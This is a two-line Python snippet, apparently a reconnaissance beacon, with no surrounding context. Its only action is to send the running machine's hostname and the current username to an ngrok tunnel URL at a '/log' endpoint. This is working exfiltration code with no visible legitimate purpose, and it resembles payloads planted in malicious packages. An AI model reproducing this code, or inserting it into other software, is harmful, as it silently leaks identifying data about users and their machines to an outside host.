import socket, getpass, requests
requests.get('https://3a9c-81-23-151-7.ngrok-free.app/log', params={'h': socket.gethostname(), 'u': getpass.getuser()})
